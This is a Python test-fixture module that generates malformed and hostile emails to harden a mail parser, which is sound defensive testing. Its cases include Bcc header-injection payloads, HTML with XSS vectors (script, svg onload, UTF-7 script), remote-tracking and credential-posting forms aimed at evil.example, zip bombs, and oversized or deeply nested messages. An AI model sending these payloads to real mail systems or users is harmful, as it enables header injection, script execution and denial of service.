"""Mail made to break parsers, each built when asked for. The list grows with every one met in the field."""

import base64
import io
import zipfile
from collections.abc import Callable

HEAD = b"From: a@office.example\r\nTo: b@replies.example\r\nSubject: x\r\nMessage-ID: <1@office.example>\r\n"


def simple(extra: bytes = b"", body: bytes = b"hello") -> bytes:
    return HEAD + extra + b"\r\n" + body


def nested(depth: int) -> bytes:
    inner = b"Content-Type: text/plain\r\n\r\ndeep"
    for number in range(depth):
        mark = b"b%d" % number
        inner = b"Content-Type: multipart/mixed; boundary=%s\r\n\r\n--%s\r\n%s\r\n--%s--\r\n" % (
            mark,
            mark,
            inner,
            mark,
        )
    return HEAD + inner


def nested_messages(depth: int) -> bytes:
    return HEAD + b"Content-Type: message/rfc822\r\n\r\n" * depth + b"end"


def parts(count: int) -> bytes:
    one = b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n"
    return simple(b"Content-Type: multipart/mixed; boundary=b\r\n", one * count + b"--b--\r\n")


def attachment(content: bytes, kind: bytes = b"application/octet-stream") -> bytes:
    body = b"--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n--b\r\nContent-Type: " + kind
    body += b"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=a.bin\r\n\r\n"
    return simple(
        b"Content-Type: multipart/mixed; boundary=b\r\n", body + base64.encodebytes(content) + b"\r\n--b--\r\n"
    )


def zip_bomb() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a", b"\0" * 20_000_000)
    return attachment(target.getvalue(), b"application/zip")


def html(source: bytes) -> bytes:
    return simple(b"Content-Type: text/html; charset=utf-8\r\n", source)


def text(charset: bytes, body: bytes) -> bytes:
    return simple(b'Content-Type: text/plain; charset="' + charset + b'"\r\n', body)


ACTIVE = (
    b"<script>fetch('https://evil.example')</script><img src=https://evil.example/p.png>"
    b"<form action=x><input></form>"
    b"<svg onload=alert(1)><style>body{background:url(https://evil.example)}</style><p>Words of the office.</p>"
)
INJECTED = "Bcc: victim@example.org"
INJECTIONS = (
    b"Subject: =?utf-8?q?a=0D=0ABcc=3A_victim=40example.org?=\r\n"
    b"From: =?utf-8?b?Ilx4Ig0KQmNjOiB2aWN0aW1AZXhhbXBsZS5vcmc=?= <a@office.example>\r\n"
    b"Message-ID: <1@office.example>\rBcc: victim@example.org\r\n"
    b"Reply-To: a@office.example\0\nBcc: victim@example.org\r\n"
    b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    b"--b\r\n\r\nSee attached. Our reference: AB-1234\rBcc: x@y\r\n"
    b"--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment;\r\n"
    b" filename*=utf-8''a%0D%0ABcc%3A%20victim%40example.org.pdf\r\n\r\n%PDF-\r\n--b--\r\n"
)
"""A second header line in everything of a mail that we show, keep or could write into a mail of our own."""
CSS = (
    b"<style>@import url(https://evil.example/a.css); p::after{content:url(https://evil.example/b)}</style>"
    b"<link rel=stylesheet href=https://evil.example/c.css>"
    b"<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>Words of the office.</p>"
    b'<p style="background:url(&quot;https://evil.example/d&quot;);width:expression(alert(1))">More words.</p>'
    b"<div style='behavior:url(#x);-moz-binding:url(https://evil.example/e)' class=evil id=evil>Last words.</div>"
)


def zip_of_zips() -> bytes:
    content = b"\0" * 1_000_000
    for _ in range(5):
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
            for name in "abcdefghij":
                archive.writestr(name, content)
        content = target.getvalue()
    return attachment(content, b"application/zip")


HOSTILE: dict[str, Callable[[], bytes]] = {
    "headers injected": lambda: INJECTIONS,
    "headers injected before a body": lambda: simple(
        b"Subject: a\rBcc: victim@example.org\r\nX-B: b\x0bBcc: v@example.org\x85Bcc: w@example.org\r\n"
    ),
    "5,000 nested comments": lambda: simple(b"Cc: " + b"(" * 5_000 + b"x" + b")" * 5_000 + b"\r\n"),
    "50,000 comments side by side": lambda: simple(b"Cc: " + b"(c) " * 50_000 + b"\r\n"),
    "comments and addresses in From": lambda: (
        b"From: " + b"(" * 5_000 + b"a@b.example" + b")" * 5_000 + b"\r\n\r\nx"
    ),
    "20,000 encoded words": lambda: simple(b"X-A: " + b"=?utf-8?q?a?= " * 20_000 + b"\r\n"),
    "20,000 encoded words in the subject": lambda: (
        b"Subject: " + b"=?utf-8?b?YQ==?= " * 20_000 + b"\r\n" + simple()
    ),
    "300,000 headers": lambda: simple(b"X-A: b\r\n" * 300_000),
    "20,000 parameters": lambda: simple(b"Content-Type: text/plain" + b"; a=b" * 20_000 + b"\r\n"),
    "20,000 numbered parameters": lambda: simple(
        b"Content-Type: text/plain" + b"".join(b"; name*%d=b" % n for n in range(20_000)) + b"\r\n"
    ),
    "100,000 parts": lambda: parts(100_000),
    "nesting 3,000 deep": lambda: nested(3_000),
    "3,000 mails within mails": lambda: nested_messages(3_000),
    "a part of 50 MB": lambda: attachment(b"\xd5\x13" * 17_500_000),
    "50 MB in one line": lambda: simple(body=b"a" * 50_000_000),
    "50 MB of addresses": lambda: simple(body=b"<a@b.example> " * 3_500_000),
    "a header of 10 MB": lambda: simple(b"References: " + b"<a@b> " * 1_700_000 + b"\r\n"),
    "zip bomb": zip_bomb,
    "zip of zips": zip_of_zips,
    "unknown charset": lambda: text(b"x-nobody-knows", b"caf\xe9"),
    "charset of a slow codec": lambda: text(b"punycode", b"a" * 200_000 + b"-" + b"b" * 20_000),
    "charset that is none": lambda: text(b"hex", b"414243"),
    "unknown charset in the subject": lambda: b"Subject: =?x-nobody-knows?q?caf=E9?=\r\n" + simple(),
    "utf-7 in the subject": lambda: b"Subject: =?utf-7?q?+ADw-script+AD4-?=\r\n" + simple(),
    "utf-7": lambda: text(b"utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "8-bit headers": lambda: simple(b"X-Name: caf\xe9 \xff\xfe\r\n"),
    "8-bit subject and name": lambda: b"Subject: caf\xe9\r\nFrom: \xc3\x28 <a@office.example>\r\n\r\nx",
    "lone CR as the only line end": lambda: simple().replace(b"\r\n", b"\r"),
    "lone CR": lambda: simple(b"X-A: b\rBcc: victim@example.org\r\n"),
    "NUL bytes": lambda: simple(b"X-\0A: b\0c\r\n", b"\0" * 100_000 + b"hello"),
    "base64 that ends early": lambda: simple(b"Content-Transfer-Encoding: base64\r\n", b"aGVsbG8"),
    "base64 that is none": lambda: simple(b"Content-Transfer-Encoding: base64\r\n", b"!\xff*" * 10_000),
    "base64 of an attachment that ends early": lambda: attachment(b"%PDF-1.7" * 50)[:-200],
    "date out of range": lambda: simple(b"Date: Mon, 99 Foo 999999 99:99:99 +9999\r\n"),
    "date before all dates": lambda: simple(b"Date: Mon, 01 Jan 0001 00:00:00 +2359\r\n"),
    "date after all dates": lambda: simple(b"Date: Fri, 31 Dec 9999 23:59:59 -2359\r\n"),
    "date of a huge zone": lambda: simple(b"Date: Fri, 31 Dec 2027 23:59:59 +99999999999999999999\r\n"),
    "date of a huge year": lambda: simple(b"Date: 1 Jan " + b"9" * 5_000 + b" 00:00:00 +0000\r\n"),
    "message/partial": lambda: simple(
        b"Content-Type: message/partial; number=1; total=9; id=x\r\n", b"Subject: y\r\n\r\nz"
    ),
    "message/partial of itself": lambda: (
        HEAD + b"Content-Type: message/partial; number=1\r\n\r\n" * 3_000 + b"end"
    ),
    "message/external-body": lambda: simple(
        b'Content-Type: message/external-body; access-type=URL; URL="https://evil.example/x"\r\n', b"\r\nx"
    ),
    "HTML with active parts": lambda: html(ACTIVE),
    "HTML with scripts": lambda: html(b"<p onclick=alert(1)>a</p><script src=//evil.example/x.js></script>"),
    "HTML with remote images": lambda: html(
        b"<p>a</p><img src=https://evil.example/p.gif><img srcset='//evil.example/q 2x'>"
        b"<body background=//evil.example/r>"
        b"<video poster=//evil.example/s></video><input type=image src=//evil.example/t>"
    ),
    "HTML with forms": lambda: html(
        b"<form action=https://evil.example method=post><input name=password><button formaction=//evil.example>"
        b"Words of the office.</button></form>"
    ),
    "HTML with SVG": lambda: html(
        b"<svg><script>alert(1)</script><image href=//evil.example/x /><foreignObject><iframe src=//evil.example>"
        b"</iframe></foreignObject></svg><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>"
    ),
    "HTML with CSS tricks": lambda: html(CSS),
    "HTML of open tags": lambda: html(b"<a" * 500_000),
    "HTML of blockquotes": lambda: html(b"<blockquote>" * 100_000 + b"x"),
    "HTML of unclosed comments": lambda: html(b"<!--" * 300_000),
    "HTML of unclosed scripts": lambda: html(b"<script>" * 200_000),
    "HTML of links": lambda: html(b"<a href=https://x.example/>" * 60_000),
    "quotes without end": lambda: simple(body=b"> " * 500_000 + b"\n" + b">\n" * 300_000),
    "attributions without end": lambda: simple(body=b"On Mon 1 Jan 2024 at 10:00 a@b.example wrote\n" * 60_000),
    "header blocks without end": lambda: simple(body=b"From: a\nSent: b\n\n" * 60_000),
    "received lines without end": lambda: simple(body=b"Received: x\nMessage-ID: y\n\n" * 60_000),
    "boundary that is a pattern": lambda: simple(
        b'Content-Type: multipart/mixed; boundary="(a+)+$"\r\n', b"--(a+)+$\r\n\r\nx"
    ),
    "boundary missing": lambda: simple(b"Content-Type: multipart/mixed\r\n", b"--b\r\n\r\nx"),
    "status fields without end": lambda: (
        b"From: MAILER-DAEMON@x.example\r\nContent-Type: message/delivery-status\r\n\r\n"
        + b"Final-Recipient: rfc822; a@b.example\r\nAction: failed\r\n\r\n" * 100_000
    ),
    "a report of a million words": lambda: (
        b"From: MAILER-DAEMON@x.example\r\nSubject: failure notice\r\n\r\n"
        + b"user mailbox address domain host " * 200_000
    ),
    "ticket words without end": lambda: simple(body=b"ticket number reference case " * 200_000),
    "nothing but newlines": lambda: b"\r\n" * 100_000,
    "a picture": lambda: bytes(range(256)) * 4_000,
}

ITEMS: dict[str, tuple[str, ...]] = {
    "header injection in anything we send back or show": ("headers injected", "headers injected before a body"),
    "5,000 nested comments": (
        "5,000 nested comments",
        "50,000 comments side by side",
        "comments and addresses in From",
    ),
    "20,000 encoded words": ("20,000 encoded words", "20,000 encoded words in the subject"),
    "300,000 headers": ("300,000 headers", "a header of 10 MB"),
    "20,000 parameters": ("20,000 parameters", "20,000 numbered parameters"),
    "100,000 parts": ("100,000 parts", "boundary that is a pattern", "boundary missing"),
    "nesting 3,000 deep": ("nesting 3,000 deep", "3,000 mails within mails"),
    "50 MB parts": ("a part of 50 MB", "50 MB in one line", "50 MB of addresses"),
    "zip bombs": ("zip bomb", "zip of zips"),
    "unknown charsets": (
        "unknown charset",
        "unknown charset in the subject",
        "charset of a slow codec",
        "charset that is none",
    ),
    "UTF-7": ("utf-7", "utf-7 in the subject"),
    "8-bit headers": ("8-bit headers", "8-bit subject and name"),
    "lone CR": ("lone CR", "lone CR as the only line end"),
    "NUL bytes": ("NUL bytes",),
    "base64 that ends early": (
        "base64 that ends early",
        "base64 of an attachment that ends early",
        "base64 that is none",
    ),
    "dates out of range": (
        "date out of range",
        "date before all dates",
        "date after all dates",
        "date of a huge zone",
        "date of a huge year",
    ),
    "message/partial": ("message/partial", "message/partial of itself", "message/external-body"),
    "HTML with scripts": ("HTML with active parts", "HTML with scripts", "HTML of unclosed scripts"),
    "HTML with remote images": ("HTML with remote images", "HTML of links"),
    "HTML with forms": ("HTML with forms",),
    "HTML with SVG": ("HTML with SVG",),
    "HTML with CSS tricks": ("HTML with CSS tricks",),
    "what our own patterns might be slow on": (
        "HTML of open tags",
        "HTML of blockquotes",
        "HTML of unclosed comments",
        "quotes without end",
        "attributions without end",
        "header blocks without end",
        "received lines without end",
        "status fields without end",
        "a report of a million words",
        "ticket words without end",
    ),
    "what is no mail at all": ("nothing but newlines", "a picture"),
}
"""What was asked to be withstood, and the mails that try it."""
CASES = [(item, name) for item, names in ITEMS.items() for name in names]
